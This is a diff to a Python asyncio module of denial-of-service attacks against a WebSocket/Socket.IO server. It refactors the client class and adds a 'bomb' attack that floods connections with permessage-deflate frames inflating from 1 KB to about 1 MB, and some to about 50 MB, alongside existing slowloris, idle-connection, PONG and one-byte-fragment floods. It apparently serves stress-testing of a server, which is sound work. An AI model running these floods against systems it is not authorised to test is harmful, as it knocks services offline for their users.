@@ -5,6 +5,7 @@ from __future__ import annotations
 import asyncio
 import json
 import sys
+import zlib
 from collections.abc import Awaitable, Callable, Coroutine
 from contextlib import suppress
 from typing import Any
@@ -32,42 +33,58 @@ FRAGMENTS = 1_000
 
 
 class Client(asyncio.Protocol):
-    """A connection that sends this at once, and calls back for what comes."""
+    """A connection that sends this at once.
 
-    def __init__(self, first: bytes, came: Callable[[asyncio.Transport, bytes], None] | None = None) -> None:
+    Attributes:
+        answered: set when something has come.
+        writable: set while what is written is taken.
+        closed: set when the connection is gone.
+    """
+
+    transport: asyncio.Transport
+
+    def __init__(self, first: bytes) -> None:
         self._first = first
-        self._came = came
+        self.answered = asyncio.Event()
+        self.writable = asyncio.Event()
+        self.closed = asyncio.Event()
 
     def connection_made(self, transport: asyncio.BaseTransport) -> None:
         """Begin."""
         assert isinstance(transport, asyncio.Transport)
-        self._transport = transport
+        self.transport = transport
+        self.writable.set()
         transport.write(self._first)
 
     def data_received(self, data: bytes) -> None:
         """Something has come."""
-        if self._came is not None:
-            self._came(self._transport, data)
+        self.answered.set()
+
+    def pause_writing(self) -> None:
+        """Enough is waiting."""
+        self.writable.clear()
+
+    def resume_writing(self) -> None:
+        """It is taken again."""
+        self.writable.set()
+
+    def connection_lost(self, error: Exception | None) -> None:
+        """It is gone."""
+        for event in (self.answered, self.writable, self.closed):
+            event.set()
 
 
-async def _connect(address: Address, first: bytes) -> asyncio.Transport:
-    transport, _ = await asyncio.get_running_loop().create_connection(lambda: Client(first), *address)
-    return transport
+async def _connect(address: Address, first: bytes) -> Client:
+    _, client = await asyncio.get_running_loop().create_connection(lambda: Client(first), *address)
+    return client
 
 
-async def _websocket(address: Address) -> asyncio.Transport:
-    """A WebSocket in the default namespace."""
-    opened = asyncio.get_running_loop().create_future()
-
-    def came(transport: asyncio.Transport, data: bytes) -> None:
-        if not opened.done():
-            opened.set_result(None)
-
-    request = head("transport=websocket", websocket=True)
-    transport, _ = await asyncio.get_running_loop().create_connection(lambda: Client(request, came), *address)
-    await opened
-    transport.write(frame(b"40"))
-    return transport
+async def _websocket(address: Address, more: str = "") -> Client:
+    """A WebSocket in the default namespace, for whose handshake there may be more headers."""
+    client = await _connect(address, head("transport=websocket", websocket=True, more=more))
+    await client.answered.wait()
+    client.transport.write(frame(b"40"))
+    return client
 
 
 async def _keep_up(count: int, live: Callable[[], Coroutine[Any, Any, None]]) -> None:
@@ -90,10 +107,10 @@ async def _keep_up(count: int, live: Callable[[], Coroutine[Any, Any, None]]) ->
 async def _byte_by_byte(address: Address, first: bytes) -> None:
     """Send something, and then one byte after the other, slowly, until the server has had enough."""
     with suppress(OSError):
-        transport = await _connect(address, first)
-        while not transport.is_closing():
+        client = await _connect(address, first)
+        while not client.closed.is_set():
             await asyncio.sleep(BYTE)
-            transport.write(b"x")
+            client.transport.write(b"x")
 
 
 async def slowloris(address: Address) -> None:
@@ -117,9 +134,8 @@ async def loiter(address: Address) -> None:
 
     async def live() -> None:
         with suppress(OSError):
-            transport = await _connect(address, head("transport=websocket", websocket=True))
-            while not transport.is_closing():
-                await asyncio.sleep(1)
+            client = await _connect(address, head("transport=websocket", websocket=True))
+            await client.closed.wait()
 
     await _keep_up(LOITERING, live)
 
@@ -128,12 +144,12 @@ async def pong(address: Address) -> None:
     """PONGs that nobody has asked for."""
 
     async def live() -> None:
-        transport = await _websocket(address)
+        client = await _websocket(address)
         for_a_centisecond = frame(b"3") * (PONGS // FLOODING // 100)
         loop = asyncio.get_running_loop()
         due = loop.time()
-        while not transport.is_closing():
-            transport.write(for_a_centisecond)
+        while not client.closed.is_set():
+            client.transport.write(for_a_centisecond)
             due += 0.01
             await asyncio.sleep(due - loop.time())
 
@@ -142,22 +158,51 @@ async def pong(address: Address) -> None:
 
 async def fragment(address: Address) -> None:
     """Messages in fragments of one byte, as fast as the server takes them."""
+    event = b'42["ignored","' + b"x" * FRAGMENTS + b'"]'
+    fragments = [frame(event[at : at + 1], CONTINUATION if at else TEXT, fin=False) for at in range(len(event))]
+    message = b"".join(fragments) + frame(b"", CONTINUATION)
 
     async def live() -> None:
-        transport = await _websocket(address)
-        event = b'42["tell",0,"' + b"x" * FRAGMENTS + b'"]'
-        fragments = [frame(event[at : at + 1], CONTINUATION if at else TEXT, fin=False) for at in range(len(event))]
-        message = b"".join(fragments) + frame(b"", CONTINUATION)
-        while not transport.is_closing():
-            transport.write(message)
-            while transport.get_write_buffer_size() > 65_536:
-                await asyncio.sleep(0.001)
-            await asyncio.sleep(0)
+        await _flood(await _websocket(address), message)
 
     await _keep_up(FLOODING, live)
 
 
-ATTACKS: dict[str, Attack] = {attack.__name__: attack for attack in (slowloris, loiter, pong, fragment)}
+async def bomb(address: Address) -> None:
+    """Messages of 1 KB that become a megabyte, as fast as the server takes them, and some that become a hundred."""
+
+    async def live() -> None:
+        await _flood(await _websocket(address, _DEFLATE), small)
+
+    async def live_shortly() -> None:
+        client = await _websocket(address, _DEFLATE)
+        client.transport.write(large)
+        await client.closed.wait()
+        await asyncio.sleep(1)
+
+    small, large = (frame(_deflated(size), compressed=True) for size in (900_000, 50_000_000))
+    await asyncio.gather(_keep_up(FLOODING, live), _keep_up(FLOODING, live_shortly))
+
+
+_DEFLATE = "Sec-WebSocket-Extensions: permessage-deflate\r\n"
+
+
+def _deflated(size: int) -> bytes:
+    """An event of so many bytes, as permessage-deflate writes it (RFC 7692, 7.2.1)."""
+    deflating = zlib.compressobj(9, zlib.DEFLATED, -15)
+    parts = [deflating.compress(b'42["ignored","'), deflating.compress(b"x" * size), deflating.compress(b'"]')]
+    return b"".join([*parts, deflating.flush(zlib.Z_SYNC_FLUSH)]).removesuffix(b"\x00\x00\xff\xff")
+
+
+async def _flood(client: Client, message: bytes) -> None:
+    """Send a message again and again, as fast as the server takes it."""
+    while not client.closed.is_set():
+        client.transport.write(message)
+        await client.writable.wait()
+        await asyncio.sleep(0)
+
+
+ATTACKS: dict[str, Attack] = {attack.__name__: attack for attack in (slowloris, loiter, pong, fragment, bomb)}
 
 
 async def _attack(name: str, address: Address) -> None:
